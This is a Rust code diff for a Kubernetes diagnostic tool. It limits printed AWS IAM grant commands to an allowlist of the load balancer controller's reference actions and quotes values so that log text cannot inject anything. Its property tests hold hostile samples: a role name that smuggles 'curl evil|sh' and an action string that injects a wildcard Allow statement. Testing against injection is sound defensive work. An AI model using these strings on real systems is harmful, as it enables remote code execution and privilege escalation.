@@ -8,6 +8,7 @@ use serde::Serialize;
 use serde_json::{json, Value};
 
 use super::health::CONTROLLER_FAILURES;
+use crate::shell;
 use super::{Check, CheckId, Finding, Layer, Scope, capitalise};
 use crate::snapshot::{Controller, View};
 
@@ -45,6 +46,93 @@ pub enum ControllerError {
     },
 }
 
+/// Every action the controller's reference IAM policy allows (aws-load-balancer-controller
+/// v3.5.0, docs/install/iam_policy.json). An AccessDenied naming one of these is a policy that
+/// lacks it; we print a grant only for these, never for an action the reference does not give
+/// the controller (a log line or an event is tenant text and could name any action).
+const REFERENCE_ACTIONS: [&str; 80] = [
+    "acm:DescribeCertificate",
+    "acm:ListCertificates",
+    "cognito-idp:DescribeUserPoolClient",
+    "ec2:AuthorizeSecurityGroupIngress",
+    "ec2:CreateSecurityGroup",
+    "ec2:CreateTags",
+    "ec2:DeleteSecurityGroup",
+    "ec2:DeleteTags",
+    "ec2:DescribeAccountAttributes",
+    "ec2:DescribeAddresses",
+    "ec2:DescribeAvailabilityZones",
+    "ec2:DescribeCoipPools",
+    "ec2:DescribeInstances",
+    "ec2:DescribeInternetGateways",
+    "ec2:DescribeIpamPools",
+    "ec2:DescribeNetworkInterfaces",
+    "ec2:DescribeRouteTables",
+    "ec2:DescribeSecurityGroups",
+    "ec2:DescribeSubnets",
+    "ec2:DescribeTags",
+    "ec2:DescribeVpcPeeringConnections",
+    "ec2:DescribeVpcs",
+    "ec2:GetCoipPoolUsage",
+    "ec2:GetSecurityGroupsForVpc",
+    "ec2:RevokeSecurityGroupIngress",
+    "elasticloadbalancing:AddListenerCertificates",
+    "elasticloadbalancing:AddTags",
+    "elasticloadbalancing:CreateListener",
+    "elasticloadbalancing:CreateLoadBalancer",
+    "elasticloadbalancing:CreateRule",
+    "elasticloadbalancing:CreateTargetGroup",
+    "elasticloadbalancing:DeleteListener",
+    "elasticloadbalancing:DeleteLoadBalancer",
+    "elasticloadbalancing:DeleteRule",
+    "elasticloadbalancing:DeleteTargetGroup",
+    "elasticloadbalancing:DeregisterTargets",
+    "elasticloadbalancing:DescribeCapacityReservation",
+    "elasticloadbalancing:DescribeListenerAttributes",
+    "elasticloadbalancing:DescribeListenerCertificates",
+    "elasticloadbalancing:DescribeListeners",
+    "elasticloadbalancing:DescribeLoadBalancerAttributes",
+    "elasticloadbalancing:DescribeLoadBalancers",
+    "elasticloadbalancing:DescribeRules",
+    "elasticloadbalancing:DescribeSSLPolicies",
+    "elasticloadbalancing:DescribeTags",
+    "elasticloadbalancing:DescribeTargetGroupAttributes",
+    "elasticloadbalancing:DescribeTargetGroups",
+    "elasticloadbalancing:DescribeTargetHealth",
+    "elasticloadbalancing:DescribeTrustStores",
+    "elasticloadbalancing:ModifyCapacityReservation",
+    "elasticloadbalancing:ModifyIpPools",
+    "elasticloadbalancing:ModifyListener",
+    "elasticloadbalancing:ModifyListenerAttributes",
+    "elasticloadbalancing:ModifyLoadBalancerAttributes",
+    "elasticloadbalancing:ModifyRule",
+    "elasticloadbalancing:ModifyTargetGroup",
+    "elasticloadbalancing:ModifyTargetGroupAttributes",
+    "elasticloadbalancing:RegisterTargets",
+    "elasticloadbalancing:RemoveListenerCertificates",
+    "elasticloadbalancing:RemoveTags",
+    "elasticloadbalancing:SetIpAddressType",
+    "elasticloadbalancing:SetRulePriorities",
+    "elasticloadbalancing:SetSecurityGroups",
+    "elasticloadbalancing:SetSubnets",
+    "elasticloadbalancing:SetWebAcl",
+    "iam:CreateServiceLinkedRole",
+    "iam:GetServerCertificate",
+    "iam:ListServerCertificates",
+    "shield:CreateProtection",
+    "shield:DeleteProtection",
+    "shield:DescribeProtection",
+    "shield:GetSubscriptionState",
+    "waf-regional:AssociateWebACL",
+    "waf-regional:DisassociateWebACL",
+    "waf-regional:GetWebACL",
+    "waf-regional:GetWebACLForResource",
+    "wafv2:AssociateWebACL",
+    "wafv2:DisassociateWebACL",
+    "wafv2:GetWebACL",
+    "wafv2:GetWebACLForResource",
+];
+
 /// Classifies one log line (the controller logs JSON; the `error` field holds the cause) or
 /// event message.
 pub fn classify(line: &str) -> ControllerError {
@@ -73,6 +161,32 @@ pub fn classify(line: &str) -> ControllerError {
     ControllerError::Other { text: short }
 }
 
+/// The grant for a denied action, only when the action is one the controller's reference
+/// policy gives it and the role name is a valid IAM role name; otherwise what to compare, with
+/// the values quoted as evidence and no command that grants anything.
+fn access_denied_fix(action: &str, role: Option<&str>) -> String {
+    let reference = "https://raw.githubusercontent.com/kubernetes-sigs/aws-load-balancer-controller/main/docs/install/iam_policy.json";
+    if !shell::iam_action(action) || !REFERENCE_ACTIONS.contains(&action) {
+        return format!(
+            "compare the controller role's policy with the reference policy ({reference}); the denied action {} is not one the reference grants, so no grant is printed",
+            shell::quote(action)
+        );
+    }
+    match role.filter(|r| shell::iam_role_name(r)) {
+        Some(role) => format!(
+            "add {action} to the policy of role {role} (the controller's reference IAM policy has it): aws iam put-role-policy --role-name {} --policy-name lbc-missing --policy-document {}",
+            shell::quote(role),
+            shell::quote(&format!(
+                r#"{{"Version":"2012-10-17","Statement":[{{"Effect":"Allow","Action":"{action}","Resource":"*"}}]}}"#
+            ))
+        ),
+        None => format!(
+            "add {action} to the controller role's policy (the role name in the message is not a valid IAM role name: {}); the reference policy: {reference}",
+            shell::quote(role.unwrap_or("unknown"))
+        ),
+    }
+}
+
 impl ControllerError {
     fn sentence(&self) -> String {
         match self {
@@ -93,11 +207,7 @@ impl ControllerError {
 
     fn fix(&self) -> String {
         match self {
-            ControllerError::AccessDenied { action, role, .. } => format!(
-                "add {action} to the policy of role {} (the controller's reference IAM policy has it): aws iam put-role-policy --role-name {} --policy-name lbc-missing --policy-document '{{\"Version\":\"2012-10-17\",\"Statement\":[{{\"Effect\":\"Allow\",\"Action\":\"{action}\",\"Resource\":\"*\"}}]}}'",
-                role.as_deref().unwrap_or("<controller role>"),
-                role.as_deref().unwrap_or("<controller role>")
-            ),
+            ControllerError::AccessDenied { action, role, .. } => access_denied_fix(action, role.as_deref()),
             ControllerError::WebIdentity { .. } => "check the controller's service account annotation eks.amazonaws.com/role-arn, the role's trust policy, and the cluster's IAM OIDC provider: kubectl -n kube-system get sa aws-load-balancer-controller -o yaml".into(),
             ControllerError::SecurityGroupTag { .. } => "keep exactly one security group per node ENI tagged kubernetes.io/cluster/<cluster> (see security-groups)".into(),
             ControllerError::PortNotFound { .. } => "make the Ingress backend / binding port name a port of the Service, and the Service's targetPort a port of the pods (see target-port)".into(),
@@ -324,4 +434,43 @@ mod tests {
         let f = CHECK.on(&b.build());
         assert_eq!((f.status, f.title.as_str()), (Status::Fail, "Controller not found"));
     }
+
+    mod props {
+        use super::super::{access_denied_fix, REFERENCE_ACTIONS};
+        use crate::shell;
+        use proptest::prelude::*;
+
+        fn action() -> impl Strategy<Value = String> {
+            prop_oneof![
+                prop::sample::select(REFERENCE_ACTIONS.to_vec()).prop_map(str::to_string),
+                Just("*".to_string()),
+                Just("iam:PassRole".to_string()),
+                Just(r#"ec2:CreateTags","Resource":"*"},{"Effect":"Allow","Action":"*"#.to_string()),
+                any::<String>(),
+            ]
+        }
+
+        fn role() -> impl Strategy<Value = String> {
+            prop_oneof![Just("eks-lbc-role".to_string()), "[a-zA-Z0-9+=,.@_-]{1,64}", any::<String>(), Just("x; curl evil|sh".to_string())]
+        }
+
+        proptest! {
+            /// Whatever a log line or an event names, a printed grant is exactly the intended
+            /// words, for the role named, and only for an action the reference policy grants.
+            #[test]
+            fn tenant_text_never_adds_a_word_or_an_action_to_the_grant(action in action(), role in role()) {
+                let fix = access_denied_fix(&action, Some(&role));
+                if let Some(at) = fix.find("aws iam put-role-policy") {
+                    prop_assert!(REFERENCE_ACTIONS.contains(&action.as_str()), "grant for {action:?}: {fix}");
+                    let words = shell::split(&fix[at..]).expect("one plain command");
+                    prop_assert_eq!(words.len(), 9, "{:?}", words);
+                    prop_assert_eq!(&words[4], &role);
+                    let doc: serde_json::Value = serde_json::from_str(&words[8]).expect("the policy is JSON");
+                    prop_assert_eq!(doc["Statement"][0]["Action"].as_str(), Some(action.as_str()));
+                    prop_assert_eq!(doc["Statement"].as_array().map(Vec::len), Some(1));
+                }
+            }
+        }
+    }
+
 }
